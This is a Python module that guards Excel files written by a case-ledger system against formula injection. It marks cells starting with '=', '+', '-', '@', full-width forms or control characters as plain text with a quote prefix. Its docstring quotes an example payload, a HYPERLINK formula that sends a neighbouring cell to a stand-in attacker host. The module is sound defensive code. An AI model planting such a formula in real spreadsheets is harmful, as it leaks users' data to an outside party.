"""Cells of every Excel file the system writes (the 台账 of cases/selectors/ledger.py).

Formula injection (CSV/Excel injection, OWASP): a text value that starts with `=`, `+`, `-`, `@`
(or their full-width forms), a tab or a carriage return may be read by Excel or LibreOffice as a
formula — `=HYPERLINK("http://e.vil/?"&B3,"x")` as a person's name sends the neighbouring cell
away when clicked. `as_text` makes such a cell a plain string cell (`data_type = "s"`, which is
written to the shared strings, never as `<f>`) with Excel's quotePrefix style: both Excel and
LibreOffice show the value exactly as entered, without an apostrophe, and keep it text even when
the user edits the cell. (Prefixing a literal `'` would show the apostrophe in the cell, change the
value, and still not survive a save as CSV.)
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def starts_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def as_text(cell):
    """`cell`: an openpyxl cell (also a write-only one) whose value is already set. Returns it."""
    if starts_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell
